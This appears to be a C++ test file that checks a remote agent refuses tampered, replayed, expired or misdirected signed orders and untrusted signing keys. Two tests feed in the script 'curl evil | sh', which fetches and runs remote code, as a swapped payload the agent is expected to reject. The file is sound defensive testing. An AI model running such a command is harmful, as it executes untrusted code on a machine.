// What somebody who has captured or changed orders can do to an agent: nothing, and it is reported.
// Source: trust.md T15, T16, T32.
#include "agent/ports/memory_file.h"
#include "agent/supervisor/test_world.h"
#include "base/log.h"

namespace reachback::agent {
namespace {

class Attacks : public World {
 protected:
  // Delivers it; the word that was said of it, if it was one refusal and nothing started.
  std::string refusal_of(const pb::ToAgent& m) {
    const auto used = journal_->used_bytes();
    const auto starts = processes_.starts.size();
    deliver(m);
    EXPECT_EQ(processes_.starts.size(), starts) << "a refused order started something";
    EXPECT_EQ(journal_->used_bytes(), used) << "a refused order was journalled";
    if (sent_.size() != 1 || !sent_[0].has_order_refused()) {
      return "not one refusal";
    }
    last_refused_ = sent_[0].order_refused();
    EXPECT_EQ(last_refused_.order_sha256(),
              as_bytes(crypto::sha256(m.execute_order().order().order())));
    auto words = said();
    return words[0];
  }
  // A whole action: run, uploaded, acknowledged.
  void run_to_its_end(const pb::ToAgent& m) {
    deliver(m);
    processes_.end(0);
    upload_all();
    acknowledge(0);
    said();
    ASSERT_TRUE(record().is_finished());
  }
  void wipe() {
    supervisor_.reset();
    journal_.reset();
    std::filesystem::remove(folder_.file("journal"));
    start_agent();
  }
  pb::OrderRefused last_refused_;
};

TEST_F(Attacks, ACapturedOrderReplayedInTheSameSessionIsRefused) {
  connect();
  said();
  const auto captured = execute(order());
  run_to_its_end(captured);
  EXPECT_EQ(refusal_of(captured), "refused Duplicate");
  EXPECT_TRUE(last_refused_.never_runs());
}

TEST_F(Attacks, ACapturedOrderReplayedInALaterSessionOrLifeIsRefused) {
  connect();
  const auto captured = execute(order());
  run_to_its_end(captured);
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused Duplicate");
  start_agent();
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused Duplicate");
  reboot();
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused Duplicate");
}

TEST_F(Attacks, AnOrderThatNeverArrivedIsOfNoUseAfterARestart) {
  connect();
  const auto captured = execute(order());
  start_agent();
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused OtherSession");
  reboot();
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused OtherSession");
}

TEST_F(Attacks, ACapturedOrderReplayedToAWipedAgentIsRefused) {
  connect();
  const auto captured = execute(order());
  run_to_its_end(captured);
  wipe();
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused OtherGeneration");
}

TEST_F(Attacks, AnOrderOfTheOriginalIsRefusedByAClone) {
  // The clone has key, generation and journal of the original; its session is its own.
  connect();
  const auto captured = execute(order());
  std::filesystem::copy(folder_.file("journal"), folder_.file("journal.of-the-clone"));
  run_to_its_end(captured);
  supervisor_.reset();
  journal_.reset();
  std::filesystem::rename(folder_.file("journal.of-the-clone"), folder_.file("journal"));
  start_agent();
  connect();
  said();
  EXPECT_EQ(refusal_of(captured), "refused OtherSession");
  EXPECT_EQ(processes_.starts.size(), 1u);
}

TEST_F(Attacks, AnOrderRedirectedToAnotherMachineOrTenantIsRefused) {
  connect();
  said();
  auto o = order();
  o.set_machine(std::string(20, 'x'));
  EXPECT_EQ(refusal_of(execute(o)), "refused WrongMachine");
  o = order();
  o.set_tenant(std::string(16, 'x'));
  EXPECT_EQ(refusal_of(execute(o)), "refused WrongMachine");
}

TEST_F(Attacks, AnOlderGrantAfterANewerOneIsRefusedAndEndsNothing) {
  connect();
  const auto first = execute(order({"echo hi\n"}, 1));
  deliver(execute(order({"echo hi\n"}, 2)));
  EXPECT_EQ(said(), (Said{"received 2", "started 0"}));
  EXPECT_EQ(refusal_of(first), "refused OlderEpoch");
  EXPECT_FALSE(last_refused_.never_runs());
  // The server's answer to a report about an older grant must not end the newer one.
  pb::ToAgent forget;
  forget.mutable_forget_action()->set_action(action_);
  forget.mutable_forget_action()->set_epoch(1);
  deliver(forget);
  EXPECT_FALSE(processes_.was_killed);
  EXPECT_TRUE(processes_.running());
}

TEST_F(Attacks, ARefusalOfWhatAlsoWaitsHereDoesNotSayThatItNeverRuns) {
  connect();
  send_order();
  said();
  const std::string first = std::exchange(action_, std::string(16, 'z'));
  send_order();  // waits behind the first
  said();
  auto tampered = execute(order());
  tampered.mutable_execute_order()->mutable_order()->set_signature(std::string(64, 's'));
  EXPECT_EQ(refusal_of(tampered), "refused SignatureRequired");
  EXPECT_FALSE(last_refused_.never_runs());
  processes_.end(0);
  EXPECT_EQ(processes_.starts.size(), 2u);
}

TEST_F(Attacks, AnExpiredOrderIsRefused) {
  connect(clock_.now());
  said();
  auto o = order();
  o.set_not_after_us(to_micros(clock_.now()) - 1);
  EXPECT_EQ(refusal_of(execute(o)), "refused Expired");
}

TEST_F(Attacks, OrdersCutOrExtendedAreRefused) {
  connect();
  said();
  const auto good = execute(order());
  const std::string bytes = good.execute_order().order().order();
  auto changed = good;
  for (std::size_t size = 1; size < bytes.size(); ++size) {
    changed.mutable_execute_order()->mutable_order()->set_order(bytes.substr(0, size));
    const std::string word = refusal_of(changed);
    ASSERT_TRUE(word == "refused SignatureRequired" || word == "refused Malformed")
        << size << ": " << word;
  }
  // A field that is repeated counts as its last value: the appended bytes name another command.
  for (const std::string& more : {std::string(1, '\0'), bytes, std::string("\x5a\x01x")}) {
    changed.mutable_execute_order()->mutable_order()->set_order(bytes + more);
    const std::string word = refusal_of(changed);
    EXPECT_TRUE(word == "refused SignatureRequired" || word == "refused Malformed") << word;
  }
}

TEST_F(Attacks, NoOrderWithAnyBitFlippedIsAccepted) {
  connect();
  said();
  const auto good = execute(order());
  const std::string bytes = good.execute_order().order().SerializeAsString();
  std::size_t refused = 0;
  set_log_level(LogLevel::error);  // some thousand lines otherwise
  for (std::size_t bit = 0; bit < bytes.size() * 8; ++bit) {
    std::string flipped = bytes;
    flipped[bit / 8] = static_cast<char>(flipped[bit / 8] ^ (1 << (bit % 8)));
    pb::ToAgent m = good;
    if (!m.mutable_execute_order()->mutable_order()->ParseFromString(flipped)) {
      ++refused;
      continue;
    }
    auto decoded = protocol::decode_to_agent(protocol::encode(m));
    if (!decoded.ok()) {
      ++refused;  // by the codec, before the supervisor sees it
      continue;
    }
    supervisor_->deliver(*decoded, {});
    refused += sent_.size() == 1 && sent_[0].has_order_refused() ? 1 : 0;
    sent_.clear();
  }
  set_log_level(LogLevel::info);
  EXPECT_EQ(refused, bytes.size() * 8);
  EXPECT_TRUE(processes_.starts.empty());
  EXPECT_TRUE(journal_->state().actions.empty());
  RecordProperty("flipped_bits", static_cast<int>(bytes.size() * 8));
  deliver(good);
  EXPECT_EQ(processes_.starts.size(), 1u) << "the order itself was good";
}

TEST_F(Attacks, AScriptSwappedInTheInlinedFileIsNotRun) {
  connect();
  said();
  deliver(execute(order({"echo hi\n"}), {"curl evil | sh\n"}));
  EXPECT_EQ(said(), (Said{"received 1", "failed 0 HashMismatch"}));
  EXPECT_TRUE(processes_.starts.empty());
}

TEST_F(Attacks, AScriptSwappedBehindItsLinkIsNotRun) {
  connect();
  said();
  pb::ToAgent m = execute(order({"echo hi\n"}), {});
  m.mutable_execute_order()->add_files()->set_url("https://127.0.0.1:1/x");
  std::vector<Fd> files;
  files.push_back(std::move(*sealed_memory_file("curl evil | sh\n")));
  supervisor_->deliver(m, std::move(files));
  events_.run_posted();
  EXPECT_EQ(said(), (Said{"received 1", "failed 0 HashMismatch"}));
  EXPECT_TRUE(processes_.starts.empty());
}

TEST_F(Attacks, TheSameGrantWithOtherCommandsRunsWhatWasJournalledOrNothing) {
  connect();
  send_order({"a", "b"});
  processes_.end(0);
  said();
  start_agent();  // the first command of the second part is lost with the process
  connect();
  said();
  // A signer's key in wrong hands: the same action and epoch, another script in place of "b".
  deliver(execute(order({"a", "evil"}), {"a", "evil"}));
  for (const auto& word : said()) {
    EXPECT_NE(word, "started 1");
  }
  EXPECT_EQ(processes_.starts.size(), 2u);
}

// ---- the keys whose orders are obeyed

class OrderKeyAttacks : public Attacks {
 protected:
  pb::OrderKeys list(std::uint64_t version, std::vector<crypto::Ed25519PublicKey> keys) {
    pb::OrderKeys out;
    out.set_version(version);
    for (const auto& key : keys) {
      out.add_keys(key.spki());
    }
    return out;
  }
  void announce(const pb::OrderKeys& keys, const crypto::Ed25519PrivateKey& by) {
    pb::ToAgent m;
    *m.mutable_order_keys() = protocol::sign_order_keys(keys, {by});
    deliver(m);
  }
  crypto::Ed25519PrivateKey next_ = crypto::Ed25519PrivateKey::generate();
};

TEST_F(OrderKeyAttacks, ANewKeyIsTakenOnTheWordOfAKnownOneAndKept) {
  connect();
  said();
  EXPECT_EQ(hello_.order_keys_version(), 1u);
  announce(list(2, {order_key_.public_key(), next_.public_key()}), order_key_);
  EXPECT_EQ(said(), Said{"keys kept 2"});
  const auto old_key = std::exchange(order_key_, next_);
  send_order();
  EXPECT_EQ(said(), (Said{"received 1", "started 0"}));
  processes_.end(0);
  announce(list(3, {next_.public_key()}), next_);
  said();
  start_agent();
  connect();
  said();
  EXPECT_EQ(hello_.order_keys_version(), 3u);
  action_ = std::string(16, 'o');
  order_key_ = old_key;
  EXPECT_EQ(refusal_of(execute(order())), "refused SignatureRequired") << "a retired key";
}

TEST_F(OrderKeyAttacks, AListByAStrangerOrAnOlderOneIsRefused) {
  connect();
  said();
  announce(list(2, {next_.public_key()}), next_);
  EXPECT_EQ(said(), Said{});
  announce(list(3, {order_key_.public_key()}), order_key_);
  EXPECT_EQ(said(), Said{"keys kept 3"});
  announce(list(2, {order_key_.public_key(), next_.public_key()}), order_key_);
  EXPECT_EQ(said(), Said{});
  announce(list(3, {order_key_.public_key(), next_.public_key()}), order_key_);
  EXPECT_EQ(said(), Said{"keys kept 3"}) << "the same version is not taken twice";
  order_key_ = next_;
  EXPECT_EQ(refusal_of(execute(order())), "refused SignatureRequired");
}

// ---- contacts

TEST_F(Attacks, AContactThatCouldNotBeKeptIsKeptAtALaterHeartbeat) {
  fail_save_ = true;
  connect();
  supervisor_->next_heartbeat();
  EXPECT_TRUE(sent_.empty());
  fail_save_ = false;
  supervisor_->next_heartbeat();
  ASSERT_EQ(sent_.size(), 1u);
  EXPECT_EQ(sent_[0].contact_kept().contact(), contact_);
  supervisor_->next_heartbeat();
  EXPECT_EQ(sent_.size(), 1u);
}

TEST_F(Attacks, AContactThatIsNotKeptIsNotConfirmed) {
  fail_save_ = true;
  connect();
  EXPECT_TRUE(sent_.empty());
  EXPECT_EQ(contact_, "");
  fail_save_ = false;
  connect();
  ASSERT_FALSE(sent_.empty());
  EXPECT_EQ(hello_.last_contact(), "");
  EXPECT_EQ(sent_[0].contact_kept().contact(), contact_);
  const std::string kept = contact_;
  connect();
  EXPECT_EQ(hello_.last_contact(), kept);
}

}  // namespace
}  // namespace reachback::agent
